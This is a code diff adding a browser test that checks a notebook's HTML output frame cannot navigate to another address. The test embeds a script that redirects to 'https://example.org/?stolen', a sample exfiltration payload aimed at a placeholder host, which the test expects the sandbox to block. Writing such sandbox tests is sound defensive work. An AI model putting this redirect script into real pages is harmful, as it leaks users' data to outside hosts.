@@ -101,4 +101,17 @@ describe("a hostile document", () => {
     await page.screenshot("hostile-output");
     await page.close();
   });
+
+  it("cannot send an HTML output's frame to another address", async () => {
+    const page = await site.open();
+    const requested = [];
+    page.page.on("request", (request) => requested.push(request.url()));
+    await page.newNotebook();
+    const html = "<p>here</p><script>setTimeout(() => { location.href = 'https://example.org/?stolen'; }, 200)</script>";
+    await page.runCell(0, `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(html)}))`);
+    await page.outputs(0).frameLocator("iframe").locator("p").waitFor();
+    await page.page.waitForTimeout(1000);
+    assert.deepEqual(requested.filter((url) => url.includes("example.org")), []);
+    await page.close();
+  });
 });
